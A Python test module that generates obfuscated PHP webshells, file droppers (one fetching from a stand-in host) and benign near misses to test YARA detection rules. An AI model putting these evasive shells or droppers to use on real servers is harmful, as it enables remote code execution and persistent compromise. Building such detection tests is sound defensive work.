"""Generated PHP webshell cases: input path x sink x transform x wrapper x padding.

Not the full cartesian product: every (input, sink) pair and every (sink, transform) pair that makes
a working shell is generated once, the other axes (wrapper, split position, ...) rotate. Transforms
that rename a function apply to sinks called by name; eval, include and backticks get the syntax
and encoding transforms only; an uploaded file (``$_FILES[...]['tmp_name']``) only feeds include.

Besides the cross: small droppers (target and content from the request), shells without letters
or digits, webshell pages (12 KB of page, traits, an indirect path) and hand-made forms seen in
one-liner collections. Padded cases put the shell after 50 KB of ordinary code; there the rules
need the parts close together, so those shells take the request in the same statement or one
variable away (an indirect path in a large file without other traits is not claimed).

Benign near misses (hit=False) use the same words: escaped output, PDO ->exec, constant and
routed includes, base64 of configuration, callbacks of safe functions, status pages, inline
scripts, function_exists checks. Telling tokens are written in pieces (``t("ev", "al")``) so this
source matches no rule; the cases are assembled only in memory.
"""

from __future__ import annotations

import base64
import codecs
import gzip
import zlib
from collections.abc import Callable, Iterator
from itertools import cycle

from tests.unit.detection.yara.webshell_cases import Case, t

# --- telling tokens, in pieces ------------------------------------------------------------------
EVAL = t("ev", "al")
ASSERT = t("as", "sert")
SYSTEM = t("sys", "tem")
PASSTHRU = t("pass", "thru")
G = t("$_G", "ET")
P = t("$_PO", "ST")
R = t("$_RE", "QUEST")
C = t("$_CO", "OKIE")
S = t("$_SER", "VER")
SESSION = t("$_SES", "SION")
INPUT = t("php:", "//input")
B64D = t("base64", "_decode")
GZI = t("gz", "inflate")
GZU = t("gz", "uncompress")
ROT = t("str_", "rot13")
CF = t("create_", "function")

# --- input paths: a function of the sink statement builder -> PHP body ----------------------------
Sink = Callable[[str], str]  # expression of the request data -> statements


def _direct(expr: str) -> Callable[[Sink], str]:
    return lambda sink: sink(expr)


INPUTS: dict[str, Callable[[Sink], str]] = {
    "get": _direct(f"{G}['k']"),
    "post": _direct(f"{P}['k']"),
    "request": _direct(f"{R}['k']"),
    "cookie": _direct(f"{C}['k']"),
    "header": _direct(f"{S}['HTTP_X_K']"),
    "variable": lambda sink: f"$p = {P}['k'];\n" + sink("$p"),
    "array": lambda sink: f"$a = array('x' => 1, 'k' => {R}['k']);\n" + sink("$a['k']"),
    "param": lambda sink: f"function h($c) {{\n    {sink('$c')}\n}}\nh({P}['k']);",
    "property": lambda sink: f"class K {{ public $c; }}\n$o = new K();\n$o->c = {G}['k'];\n" + sink("$o->c"),
    "session": lambda sink: (
        f"session_start();\nif (isset({P}['k'])) {{ {SESSION}['k'] = {P}['k']; }}\n" + sink(f"{SESSION}['k']")
    ),
    "varvar": lambda sink: "$n = '_PO' . 'ST';\n$d = $$n;\n" + sink("$d['k']"),
    "brace": _direct(t("${", "'_PO' . 'ST'}['k']")),
    "loop": lambda sink: f"foreach ({P} as $key => $v) {{\n    if ($key == 'k') {{ {sink('$v')} }}\n}}",
    "getenv": _direct(t("get", "env('HTTP_X_K')")),
    "headers": lambda sink: t("$h = getall", "headers();\n") + sink("$h['X-K']"),
    "php_input": _direct(f"file_get_contents('{INPUT}')"),
    "globals": _direct(f"$GLOBALS['_{P[2:]}']['k']"),
    "extract": lambda sink: f"@extract({R});\n" + sink("$k"),
    # an uploaded file included as code (include sinks only)
    "upload": _direct(t("$_FI", "LES") + "['u']['tmp_name']"),
}
DIRECT_INPUTS = ("get", "post", "request", "cookie", "header", "getenv", "php_input", "brace")

# --- name transforms: a function name -> PHP expression that yields it -----------------------------
XOR_KEYS = "!#%&()*+,-/:;<=>?@[]^{|}~"


def _split(name: str, pieces: int, shift: int) -> str:
    cuts = sorted({1 + (shift + i * max(1, len(name) // pieces)) % (len(name) - 1) for i in range(pieces - 1)})
    parts = [name[a:b] for a, b in zip([0, *cuts], [*cuts, len(name)], strict=True)]
    return " . ".join(f"'{p}'" for p in parts)


def _xor(name: str) -> str:
    left, right = [], []
    for i, ch in enumerate(name):
        for key in XOR_KEYS[i % len(XOR_KEYS) :] + XOR_KEYS:
            other = chr(ord(ch) ^ ord(key))
            if 32 < ord(other) < 127 and other not in "'\\$":
                left.append(key)
                right.append(other)
                break
    return f"'{''.join(left)}' ^ '{''.join(right)}'"


def _index(name: str) -> str:
    alphabet = "zyxwvutsrqponmlkjihgfedcba_"
    return "($s = '" + alphabet + "') ? " + " . ".join(f"$s[{alphabet.index(ch)}]" for ch in name) + " : ''"


NAME_TRANSFORMS: dict[str, Callable[[str, int], str]] = {
    "split2": lambda n, i: _split(n, 2, i),
    "split3": lambda n, i: _split(n, 3, i),
    "split4": lambda n, i: _split(n, 4, i),
    "split5": lambda n, i: _split(n, 5, i),
    "strrev": lambda n, i: f"strrev('{n[::-1]}')",
    "junk": lambda n, i: "str_replace('#@', '', '" + "#@".join(n[j : j + 2] for j in range(0, len(n), 2)) + "')",
    "strtr": lambda n, i: f"strtr('{n.upper()}', 'ABCDEFGHIJKLMNOPQRSTUVWXYZ', 'abcdefghijklmnopqrstuvwxyz')",
    "xor": lambda n, i: _xor(n),
    "not": lambda n, i: '~"' + "".join(f"\\x{255 - ord(ch):02x}" for ch in n) + '"',
    "chr": lambda n, i: " . ".join((f"chr({ord(ch)})" if i % 2 else f"chr(0x{ord(ch):x})") for ch in n),
    "hex": lambda n, i: '"' + "".join(f"\\x{ord(ch):02x}" for ch in n) + '"',
    "octal": lambda n, i: '"' + "".join(f"\\{ord(ch):o}" for ch in n) + '"',
    "unicode": lambda n, i: '"' + "".join(f"\\u{{{ord(ch):x}}}" for ch in n) + '"',
    "b64name": lambda n, i: f"{B64D}('{base64.b64encode(n.encode()).decode()}')",
    "rot13name": lambda n, i: f"{ROT}('{codecs.encode(n, 'rot13')}')",
    "strindex": lambda n, i: _index(n),
    # the name is not in the file at all: the request chooses the function
    "reqname": lambda n, i: f"{G}['f']",
    # one character written as an escape: "ass\x65rt", "sy\163tem"
    "partialhex": lambda n, i: (
        '"' + n[: 1 + i % (len(n) - 1)] + f"\\x{ord(n[1 + i % (len(n) - 1)]):02x}" + n[2 + i % (len(n) - 1) :] + '"'
    ),
    "partialoct": lambda n, i: (
        '"' + n[: 1 + i % (len(n) - 1)] + f"\\{ord(n[1 + i % (len(n) - 1)]):o}" + n[2 + i % (len(n) - 1) :] + '"'
    ),
}
# a call through reflection instead of a variable
CALL_FORMS = {
    "reflection": lambda name_expr, args: f"$r = new Reflection{'Function'}({name_expr});\n$r->invoke({args});",
}
# transforms of the code as written (any sink): comments between tokens, mixed case
SYNTAX_TRANSFORMS = ("none", "comments", "case")
# the whole body encoded and evaluated
LAYERS = {
    "b64": lambda body: f"{EVAL}({B64D}('{base64.b64encode(body).decode()}'));",
    "rot13": lambda body: f"{EVAL}({ROT}('{_sq(codecs.encode(body.decode(), 'rot13'))}'));",
    "gzinflate": lambda body: f"{EVAL}({GZI}({B64D}('{base64.b64encode(_deflate(body)).decode()}')));",
    "gzuncompress": lambda body: f"{EVAL}({GZU}({B64D}('{base64.b64encode(zlib.compress(body)).decode()}')));",
    "layered": lambda body: LAYERS["gzinflate"](LAYERS["rot13"](LAYERS["b64"](body).encode()).encode()),
    "b64var": lambda body: f"$c = {B64D}('{base64.b64encode(body).decode()}');\n@{EVAL}($c);",
    "hexcode": lambda body: f'@{EVAL}("' + "".join(f"\\x{b:02x}" for b in body) + '");',
    "octcode": lambda body: f'@{EVAL}("' + "".join(f"\\{b:o}" for b in body) + '");',
    "hex2bin": lambda body: f"@{EVAL}(hex2bin('{body.hex()}'));",
    "urldecode": lambda body: f"@{EVAL}(urldecode('" + "".join(f"%{b:02X}" for b in body) + "'));",
    "strrev": lambda body: f"@{EVAL}(strrev('{_sq(body.decode()[::-1])}'));",
    "gzdecode": lambda body: f"@{EVAL}(gzdecode({B64D}('{base64.b64encode(gzip.compress(body)).decode()}')));",
    "assert-b64": lambda body: f"@{ASSERT}({B64D}('{base64.b64encode(body).decode()}'));",
    "cf-b64": lambda body: f"$f = {CF}('', {B64D}('{base64.b64encode(body).decode()}'));\n$f();",
}


def _sq(text: str) -> str:
    """A PHP single-quoted literal's content."""
    return text.replace("\\", "\\\\").replace("'", "\\'")


def _deflate(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


# --- sinks ---------------------------------------------------------------------------------------
# kind: "code" takes PHP code, "cmd" a shell command, "path" a file to include
# a sink is a function (name expression or None, syntax transform) -> (expression -> statements)
SinkMaker = Callable[[str | None, str], Sink]


def _cased(word: str, syntax: str) -> str:
    return "".join(ch.upper() if i % 2 else ch for i, ch in enumerate(word)) if syntax == "case" else word


def _paren(syntax: str) -> str:
    return "/* x */ (" if syntax == "comments" else "("


def _call(name: str, args: Callable[[str], str]) -> SinkMaker:
    """A function sink called by its name, or through a variable holding the synthesized name."""

    def make(name_expr: str | None, syntax: str) -> Sink:
        if name_expr is not None and name_expr.startswith("reflection:"):
            return lambda e: CALL_FORMS["reflection"](name_expr[len("reflection:") :], args(e))
        if name_expr is not None:
            return lambda e: f"$f = {name_expr};\n@$f({args(e)});"
        return lambda e: f"@{_cased(name, syntax)}{_paren(syntax)}{args(e)});"

    return make


def _callback(shape: Callable[[str, str], str], callee: str) -> SinkMaker:
    """A callback sink: the dangerous callee is passed by name (plain or synthesized)."""

    def make(name_expr: str | None, syntax: str) -> Sink:
        ref = name_expr if name_expr is not None else f"'{_cased(callee, syntax)}'"
        return lambda e: shape(ref, e) if syntax != "comments" else shape(ref, e).replace("(", "/* x */ (", 1)

    return make


def _construct(build: Callable[[str, str], str]) -> SinkMaker:
    def make(name_expr: str | None, syntax: str) -> Sink:
        return lambda e: build(e, syntax)

    return make


def _backtick(e: str, syntax: str) -> str:
    if e.startswith("$") and "(" not in e and "'" not in e:
        return f"echo `{e}`;"
    return f"$c = {e};\necho /* x */ `$c`;" if syntax == "comments" else f"$c = {e};\necho `$c`;"


def _include(word: str) -> Callable[[str, str], str]:
    def build(e: str, syntax: str) -> str:
        kw = _cased(word, syntax)
        sep = " /* x */ " if syntax == "comments" else " "
        if INPUT in e:  # the body itself is the code
            return f"{kw}{sep}'{INPUT}';"
        if word.startswith("req") and "tmp_name" not in e:
            return f"{kw}{sep}'data://text/plain;base64,' . {e};"
        return f"@{kw}{sep}{e};"

    return build


def _creator(name_expr: str | None, syntax: str) -> Sink:
    head = f"$f = {name_expr};\n$g = $f(" if name_expr is not None else f"$g = {_cased(CF, syntax)}{_paren(syntax)}"
    return lambda e: head + f"'', {e});\n$g();"


XSL = (
    "$x = new XSLTProcessor();\n$x->register" + "PHPFunctions();\n"
    '$s = new DOMDocument();\n$s->loadXML(\'<xsl:stylesheet version="1.0" '
    'xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl">'
    "<xsl:template match=\"/\"><xsl:value-of select=\"php:function(\\'' . {ref} . '\\', string(.))\"/>"
    "</xsl:template></xsl:stylesheet>');\n$x->importStylesheet($s);\n"
    "$d = new DOMDocument();\n$d->appendChild($d->createElement('c', {e}));\necho $x->transformToXml($d);"
)

SINKS: dict[str, tuple[str, SinkMaker]] = {
    "eval": ("code", _construct(lambda e, s: f"@{_cased(EVAL, s)}{_paren(s)}{e});")),
    "assert": ("code", _call(ASSERT, lambda e: e)),
    "system": ("cmd", _call(SYSTEM, lambda e: e)),
    "exec": ("cmd", _call(t("ex", "ec"), lambda e: f'{e}, $out);\necho implode("\\n", $out')),
    "shell_exec": ("cmd", _call(t("shell", "_exec"), lambda e: e)),
    "passthru": ("cmd", _call(PASSTHRU, lambda e: e)),
    "popen": ("cmd", _call(t("po", "pen"), lambda e: f"{e}, 'r'")),
    "proc_open": ("cmd", _call(t("proc", "_open"), lambda e: f"{e}, array(1 => array('pipe', 'w')), $pipes")),
    "pcntl_exec": ("cmd", _call(t("pcntl", "_exec"), lambda e: f"'{t('/bin', '/sh')}', array('-c', {e})")),
    "include": ("path", _construct(_include("include"))),
    "require": ("path", _construct(_include("require_once"))),
    "backticks": ("cmd", _construct(_backtick)),
    "preg_replace_e": ("code", _call(t("preg_", "replace"), lambda e: f"'/.*/e', {e}, ''")),
    "mb_ereg_replace_e": ("code", _call(t("mb_ereg", "_replace"), lambda e: f"'.*', {e}, '', 'e'")),
    "preg_replace_callback": (
        "cmd",
        _callback(
            lambda ref, e: (
                f"echo preg_replace_callback('/.+/', function ($m) {{ $g = {ref}; return $g($m[0]); }}, {e});"
            ),
            SYSTEM,
        ),
    ),
    "call_user_func": ("cmd", _callback(lambda ref, e: f"call_user_func({ref}, {e});", SYSTEM)),
    "call_user_func_array": ("cmd", _callback(lambda ref, e: f"call_user_func_array({ref}, array({e}));", PASSTHRU)),
    "array_map": ("cmd", _callback(lambda ref, e: f"array_map({ref}, array({e}));", SYSTEM)),
    "array_filter": ("cmd", _callback(lambda ref, e: f"array_filter(array({e}), {ref});", SYSTEM)),
    "usort": ("code", _callback(lambda ref, e: f"$arr = array({e}, '1');\nusort($arr, {ref});", ASSERT)),
    "uasort": ("code", _callback(lambda ref, e: f"$arr = array({e}, '1');\nuasort($arr, {ref});", ASSERT)),
    "array_walk": ("code", _callback(lambda ref, e: f"$arr = array({e});\narray_walk($arr, {ref});", ASSERT)),
    "array_udiff": ("code", _callback(lambda ref, e: f"array_udiff(array({e}), array('1'), {ref});", ASSERT)),
    "array_intersect_ukey": (
        "code",
        _callback(lambda ref, e: f"array_intersect_ukey(array({e} => 1), array('1' => 1), {ref});", ASSERT),
    ),
    "uksort": ("code", _callback(lambda ref, e: f"$arr = array({e} => 1, '1' => 2);\nuksort($arr, {ref});", ASSERT)),
    "array_reduce": ("code", _callback(lambda ref, e: f"array_reduce(array(1), {ref}, {e});", ASSERT)),
    "register_tick_function": (
        "cmd",
        _callback(lambda ref, e: f"declare(ticks=1);\nregister_tick_function({ref}, {e});", SYSTEM),
    ),
    "array_uintersect": (
        "code",
        _callback(lambda ref, e: f"array_uintersect(array({e}), array('1'), {ref});", ASSERT),
    ),
    "register_shutdown_function": (
        "cmd",
        _callback(lambda ref, e: f"register_shutdown_function({ref}, {e});", SYSTEM),
    ),
    "ob_start": ("code", _callback(lambda ref, e: f"ob_start({ref});\necho {e};\nob_end_flush();", ASSERT)),
    "create_function": ("code", _creator),
    "closure_from_callable": (
        "cmd",
        _callback(lambda ref, e: f"$g = Closure::fromCallable({ref});\n$g({e});", SYSTEM),
    ),
    "xslt": ("cmd", _callback(lambda ref, e: XSL.replace("{ref}", ref).replace("{e}", e), SYSTEM)),
}
CONSTRUCTS = ("eval", "include", "require", "backticks")  # no name to synthesize


def transforms_for(sink: str) -> list[str]:
    names = [] if sink in CONSTRUCTS else list(NAME_TRANSFORMS)
    if SINKS[sink][1].__qualname__.startswith("_call."):
        names.append("reflection")
    if sink not in CONSTRUCTS:
        names.append("reqvar")
    syntax = [s for s in SYNTAX_TRANSFORMS if not (s == "case" and sink == "xslt")]
    return syntax + names + [f"layer-{name}" for name in LAYERS]


# --- wrappers and padding --------------------------------------------------------------------------
def _wrap(wrapper: str, body: str) -> str:
    if wrapper == "php":
        return f"<?php\n{body}\n"
    if wrapper == "short":
        return f"<?\n{body}\n?>\n"
    if wrapper == "echo":
        return f"<?= ''; {body} ?>\n"
    if wrapper == "html":
        return f"<html><head><title>Site</title></head><body>\n<p>Welcome</p>\n<?php\n{body}\n?>\n</body></html>\n"
    return f"GIF89a\x01\x00\x01\x00\n<?php\n{body}\n?>\n"  # an image header in front


WRAPPERS = ("php", "short", "echo", "html", "gif")


def benign_code(size: int) -> str:
    """Ordinary PHP: request handling, PDO, templates, configuration, as a school site has."""
    parts = ["<?php\n/**\n * Course list for the school site.\n */\n"]
    i = 0
    while sum(map(len, parts)) < size:
        parts.append(
            f"function course_page_{i}(PDO $db, array $query): string\n{{\n"
            f"    $page = max(1, (int) ($query['page'] ?? 1));\n"
            f"    $stmt = $db->prepare('SELECT id, title FROM courses WHERE term = ? LIMIT 20 OFFSET ?');\n"
            f"    $stmt->execute([$query['term'] ?? '2026a', ($page - 1) * 20]);\n"
            f"    $rows = $stmt->fetchAll(PDO::FETCH_ASSOC);\n"
            f"    $html = '';\n"
            f"    foreach ($rows as $row) {{\n"
            f"        $html .= '<li>' . htmlspecialchars($row['title'], ENT_QUOTES, 'UTF-8') . '</li>';\n"
            f"    }}\n"
            f"    return '<ul class=\"courses-{i}\">' . $html . '</ul>';\n}}\n\n"
        )
        i += 1
    parts.append(f"echo course_page_0($db, {G});\n?>\n")
    return "".join(parts)


PADDING = benign_code(50_000)


# --- assembly --------------------------------------------------------------------------------------
def build(inp: str, sink: str, transform: str, wrapper: str, index: int) -> str:
    kind, maker = SINKS[sink]
    callee = {"cmd": SYSTEM, "code": ASSERT}.get(kind, SYSTEM)
    if transform in NAME_TRANSFORMS:
        name = callee if sink in CALLBACKS else _sink_name(sink)
        sink_fn = maker(NAME_TRANSFORMS[transform](name, index), "none")
    elif transform == "reqvar":  # $e is set from the request, then passed as the callee
        chosen = maker("$e", "none")
        sink_fn = lambda e: f"$e = {R}['e'];\n" + chosen(e)  # noqa: E731
    elif transform == "reflection":
        sink_fn = maker("reflection:" + NAME_TRANSFORMS["split2"](_sink_name(sink), index), "none")
    else:
        syntax = transform if transform in SYNTAX_TRANSFORMS else "none"
        sink_fn = maker(None, syntax)
    body = INPUTS[inp](sink_fn)
    if transform.startswith("layer-"):
        body = LAYERS[transform[len("layer-") :]](body.encode())
    return _wrap(wrapper, body)


CALLBACKS = {name for name, (_, maker) in SINKS.items() if maker.__qualname__.startswith("_callback")}


def _sink_name(sink: str) -> str:
    return {
        "assert": ASSERT,
        "system": SYSTEM,
        "exec": t("ex", "ec"),
        "shell_exec": t("shell", "_exec"),
        "passthru": PASSTHRU,
        "popen": t("po", "pen"),
        "proc_open": t("proc", "_open"),
        "pcntl_exec": t("pcntl", "_exec"),
        "preg_replace_e": t("preg_", "replace"),
        "mb_ereg_replace_e": t("mb_ereg", "_replace"),
        "create_function": CF,
    }[sink]


def technique(inp: str, sink: str, transform: str, padded: bool) -> str:
    if padded:
        return "php.padded"
    if transform.startswith("layer-"):
        return "php.encoded"
    if transform in ("reqname", "reqvar"):
        return "php.variable-call"
    if transform in NAME_TRANSFORMS or transform == "reflection":
        return "php.name-synthesis"
    if sink in ("include", "require"):
        return "php.include"
    if sink in CALLBACKS or sink in ("preg_replace_e", "mb_ereg_replace_e", "create_function"):
        return "php.callback"
    if inp in DIRECT_INPUTS and inp != "brace":
        return "php.input-to-sink"
    return "php.indirect-input"


# padded shells: the request data reaches the sink in one statement or through one variable
PADDED_INPUTS = ("post", "get", "cookie", "header", "variable", "php_input", "getenv", "request")
PADDED_TRANSFORMS = ("none", "comments", "case", "layer-b64", "layer-gzinflate", "layer-layered", "layer-rot13")


def _case(inp: str, sink: str, transform: str, wrapper: str, index: int, padded: bool = False) -> Case:
    text = build(inp, sink, transform, wrapper, index)
    if padded:
        text = PADDING + text.replace("GIF89a\x01\x00\x01\x00\n", "")
    variant = f"input={inp} sink={sink} transform={transform} wrapper={wrapper} padded={padded}"
    content = text.encode("latin-1") if "GIF89a" in text[:6] else text.encode("utf-8")
    return Case(technique(inp, sink, transform, padded), variant, "php", f"c{index:04d}.php", content)


def _valid(inp: str, sink: str) -> bool:
    return inp != "upload" or sink in ("include", "require")


def hit_cases() -> Iterator[Case]:
    index = 0
    wrappers = cycle(WRAPPERS)
    seen: set[tuple[str, str, str]] = set()
    # every (input, sink) pair, transforms rotating
    for s_i, sink in enumerate(SINKS):
        transforms = transforms_for(sink)
        for i_i, inp in enumerate(INPUTS):
            if not _valid(inp, sink):
                continue
            transform = transforms[(s_i + i_i) % len(transforms)]
            seen.add((inp, sink, transform))
            yield _case(inp, sink, transform, next(wrappers), index)
            index += 1
    # every (sink, transform) pair, inputs rotating
    inputs = list(INPUTS)
    for s_i, sink in enumerate(SINKS):
        for k, transform in enumerate(transforms_for(sink)):
            inp = inputs[(s_i * 3 + k) % len(inputs)]
            if not _valid(inp, sink):
                inp = "post"
            if (inp, sink, transform) in seen:
                continue
            yield _case(inp, sink, transform, next(wrappers), index)
            index += 1
    # after 50 KB of ordinary code
    for s_i, sink in enumerate(SINKS):
        for k, transform in enumerate(PADDED_TRANSFORMS):
            if k % 2 and not transform.startswith("layer-"):
                continue
            inp = PADDED_INPUTS[(s_i + k) % len(PADDED_INPUTS)]
            yield _case(inp, sink, transform, next(wrappers), index, padded=True)
            index += 1


# --- small droppers: a file written from the request ----------------------------------------------
FPC = t("file_put", "_contents")
MUF = t("move_uploaded", "_file")
DROP_NAMES = {  # statements before, expression of the target file
    "name-get": ("", f"{G}['n']"),
    "name-post": ("", f"{P}['n']"),
    "name-var": (f"$n = {R}['n'];\n", "$n"),
    "name-php": ("", "'s.php'"),
    "name-dir-php": ("", "__DIR__ . '/images/thumb.phtml'"),
    "name-split": ("", "'x' . '.ph' . 'p'"),
}
DROP_CONTENTS = {
    "post": f"{P}['d']",
    "b64": f"{B64D}({P}['d'])",
    "input": f"file_get_contents('{INPUT}')",
    "remote": "file_get_contents('http://example.invalid/s.txt')",
    "cookie": f"{C}['d']",
    # PHP code kept as a base64 literal (built here, never stored): '<?php ...' encodes to 'PD9waHA...'
    "b64lit": f"{B64D}('" + base64.b64encode(f"<?php {EVAL}({P}['x']);".encode()).decode() + "')",
}
UPLOAD_FROM, UPLOAD_TMP = "['d']", "['f']['tmp_name']"
DROP_SINKS: dict[str, Callable[[str, str], str]] = {
    "file_put_contents": lambda n, c: f"@{FPC}({n}, {c});",
    "fwrite": lambda n, c: f"$h = fopen({n}, 'w');\nfwrite($h, {c});\nfclose($h);",
    "fputs": lambda n, c: f"@fputs(fopen({n}, 'wb'), {c});",
    "copy": lambda n, c: f"@copy({c.replace(P + UPLOAD_FROM, t('$_FI', 'LES') + UPLOAD_TMP)}, {n});",
    "move_uploaded_file": lambda n, c: f"@{MUF}({t('$_FI', 'LES')}['f']['tmp_name'], {n});",
}


def dropper_cases(start: int) -> Iterator[Case]:
    index = start
    names, contents = list(DROP_NAMES), list(DROP_CONTENTS)
    wrappers = cycle(WRAPPERS)
    for s_i, sink in enumerate(DROP_SINKS):
        for n_i, name in enumerate(names):
            content = contents[(s_i + n_i) % len(contents)]
            if sink in ("copy", "move_uploaded_file") and name in ("name-php", "name-dir-php", "name-split"):
                content = "post"  # an uploaded file kept under an executable name
            before, target = DROP_NAMES[name]
            body = before + DROP_SINKS[sink](target, DROP_CONTENTS[content]) + "\necho 'ok';"
            text = _wrap(next(wrappers), body)
            variant = f"dropper={sink} name={name} content={content}"
            yield Case("php.dropper", variant, "php", f"d{index:04d}.php", text.encode("latin-1"))
            index += 1


# --- shells without letters or digits: names XORed from punctuation -------------------------------
PUNCT = "!#%&()*+,-./:;<=>?@[]^_`{|}~"


def _punct_xor(word: str, shift: int) -> str:
    """``('@'^'!').(...)``: every character the XOR of two punctuation characters."""
    pieces = []
    for i, ch in enumerate(word):
        pairs = [(a, b) for a in PUNCT for b in PUNCT if ord(a) ^ ord(b) == ord(ch)]
        a, b = pairs[(shift + i) % len(pairs)]
        pieces.append(f"('{a}'^'{b}')")
    return ".".join(pieces)


def nonalnum_cases(start: int) -> Iterator[Case]:
    index = start
    wrappers = cycle(WRAPPERS)
    pairs = ((ASSERT, P), (SYSTEM, G), (ASSERT, C), (PASSTHRU, R), (SYSTEM, P), (ASSERT, G))
    for k, (callee, source) in enumerate(pairs):
        sep = ";\n" if k % 2 else ";"
        body = f"$_={_punct_xor(callee, k)}{sep}$__='_'.{_punct_xor(source[2:], k)}{sep}$___=$$__{sep}@$_($___['_']);"
        text = _wrap(next(wrappers), body)
        yield Case("php.nonalnum", f"callee={callee} source={source}", "php", f"n{index:04d}.php", text.encode())
        index += 1
    # ${$__}[!$_](${$__}[$_]): the superglobal's name XORed, function and argument both from the request
    for k, source in enumerate((G, P, C)):
        body = f"@$_++;\n$__={_punct_xor(source[1:], k)};\n${{$__}}[!$_](${{$__}}[$_]);"
        text = _wrap(next(wrappers), body)
        yield Case("php.nonalnum", f"brace-call source={source}", "php", f"n{index:04d}.php", text.encode())
        index += 1
    # ($_=@<request>[2]).@$_(<request>[1]): the function name assigned inside an expression
    for first, second in ((G, P), (P, P), (C, R)):
        text = _wrap(next(wrappers), f"(${'_'}=@{first}[2]).@$_({second}[1]);")
        yield Case("php.variable-call", f"inline-assign {first} {second}", "php", f"n{index:04d}.php", text.encode())
        index += 1
    # the request copied whole, a name joined from variables, the session holding the name
    for k, (variant, body) in enumerate(
        (
            ("copy-element-call", f"$m = {G};\n@$m['a']($m['b']);"),
            ("array-values", f"$p = array_values({P});\n$q = $p[0];\n$r = $p[1];\n$q($r);"),
            ("variable-join", f"$a = 'as';\n$b = 'se' . 'rt';\n$c = $a . $b;\n$c({P}['x']);"),
            ("variable-join2", f"$a = 'sy';\n$b = 'stem';\n$c = $a.$b;\n$c({C}['x']);"),
            ("copy-echo-call", f"$q = {R};\n$fn = $q['f'];\n$ar = $q['a'];\necho $fn($ar);"),
            (
                "args-wrapper",
                "function run() { $a = func_get_args(); return call_user_func_array($a[0], array_slice($a, 1)); }\n"
                f"run({G}['f'], {G}['x']);",
            ),
            ("constant-name", f"define('F', '{SYSTEM}');\n$f = F;\n$f({G}['c']);"),
            ("array-object-sort", f"$o = new ArrayObject(array({P}['x'], '1'));\n$o->uasort('{ASSERT}');"),
            ("named-mb-e", f"$m = '{t('mb_ereg', '_replace')}';\n$m('.*', {P}['c'], 'x', 'e');"),
            ("upload-variable", f"$u = {t('$_FI', 'LES')}['f']['tmp_name'];\ninclude $u;"),
            (
                "session-name",
                f"session_start();\n{SESSION}['s'] = {G}['s'];\n$func = {SESSION}['s'];\n$func({G}['a']);",
            ),
        )
    ):
        text = _wrap(WRAPPERS[k % len(WRAPPERS)], body)
        yield Case("php.variable-call", variant, "php", f"n{index:04d}.php", text.encode())
        index += 1
    text = "<?= @`" + G + "[c]` ?>\n"  # backticks in an echo tag
    yield Case("php.input-to-sink", "echo-tag-backticks", "php", f"n{index:04d}.php", text.encode())


# --- a webshell page: the request reaches the sink by an indirect path, inside 12 KB of page --------
TRAITS = (
    f"@{t('error_', 'reporting(0)')};\n@{t('set_time', '_limit(0)')};\n",
    f'echo \'<pre>\' . {t("php_", "uname")}() . "\\n" . {t("get", "cwd")}() . "\\n"',
    f" . ini_get('{t('disable', '_functions')}') . '</pre>';\n",
)
PAGE_SINKS = ("system", "exec", "shell_exec", "passthru", "popen", "proc_open", "backticks", "eval", "assert")


def page_cases(start: int) -> Iterator[Case]:
    index = start
    page = benign_code(12_000)
    for i_i, inp in enumerate(INPUTS):
        sink = PAGE_SINKS[i_i % len(PAGE_SINKS)]
        body = INPUTS[inp](SINKS[sink][1](None, "none"))
        text = page + "<?php\n" + "".join(TRAITS) + body + "\n"
        variant = f"input={inp} sink={sink} size=12k"
        yield Case("php.shell-page", variant, "php", f"p{index:04d}.php", text.encode())
        index += 1


# --- obfuscated names in a medium-size file (10 KB of page around the shell) -----------------------
STRONG_TRANSFORMS = (
    "xor",
    "not",
    "chr",
    "hex",
    "octal",
    "unicode",
    "strrev",
    "junk",
    "strtr",
    "strindex",
    "partialhex",
    "partialoct",
)
CALLED_SINKS = ("assert", "system", "shell_exec", "passthru", "exec", "popen")


def medium_cases(start: int) -> Iterator[Case]:
    index = start
    page = benign_code(10_000)
    direct = ("post", "get", "request", "cookie")
    for k, transform in enumerate(STRONG_TRANSFORMS):
        for j in range(2):
            sink = CALLED_SINKS[(k + j) % len(CALLED_SINKS)]
            inp = direct[(k + j) % len(direct)]
            body = build(inp, sink, transform, "php", index)
            variant = f"input={inp} sink={sink} transform={transform} size=10k"
            yield Case("php.medium-synthesis", variant, "php", f"m{index:04d}.php", (page + body).encode())
            index += 1


# --- near misses: the same words in benign code ----------------------------------------------------
NEAR_MISSES: dict[str, tuple[str, ...]] = {  # name -> lines of a benign file
    "escaped-output": (f"echo htmlspecialchars({G}['q'] ?? '', ENT_QUOTES, 'UTF-8');",),
    "pdo-exec": (f"$id = (int) {P}['id'];", "$pdo->exec('DELETE FROM news WHERE id = ' . $id);"),
    "constant-include": (
        "require_once __DIR__ . '/config.php';",
        "include 'header.php';",
        f"echo (int) {G}['page'];",
    ),
    "allowlisted-include": (
        "$pages = ['home', 'news'];",
        f"$p = in_array({G}['p'] ?? '', $pages, true) ? {G}['p'] : 'home';",
        'include __DIR__ . "/pages/{$p}.php";',
    ),
    "config-base64": (
        f"$prefs = json_decode({B64D}({C}['prefs'] ?? 'e30='), true);",
        f"$key = {B64D}('c2Nob29sLXNpdGUta2V5');",
    ),
    "trim-map": (f"$tags = array_map('trim', explode(',', {P}['tags'] ?? ''));", "usort($tags, 'strcmp');"),
    "sort-closure": (
        f"$dir = {G}['dir'] ?? 'asc';",
        "usort($rows, function ($a, $b) use ($dir) { return $dir === 'asc' ? $a <=> $b : $b <=> $a; });",
    ),
    "template-callback": (
        "$vars = ['name' => 'Li'];",
        "echo preg_replace_callback('/\\{(\\w+)\\}/', function ($m) use ($vars) {",
        f"    return htmlspecialchars($vars[$m[1]] ?? ''); }}, {P}['tpl'] ?? '');",
    ),
    "gzip-buffer": (
        "ob_start('ob_gzhandler');",
        f"echo 'Hello ' . htmlspecialchars({G}['name'] ?? '');",
        "ob_end_flush();",
    ),
    "docblock-backticks": (
        "/**",
        " * Reads `$page` from the query string; run `composer install` first.",
        " */",
        f"$page = (int) ({G}['page'] ?? 1);",
    ),
    "assert-test": (f"$n = (int) ({G}['n'] ?? 0);", f"{ASSERT}($n >= 0);", "echo $n;"),
    "hash-compare": (f"if (hash_equals($token, (string) ({S}['HTTP_X_TOKEN'] ?? ''))) {{ echo 'ok'; }}",),
    "json-input": (
        f"$data = json_decode(file_get_contents('{INPUT}'), true);",
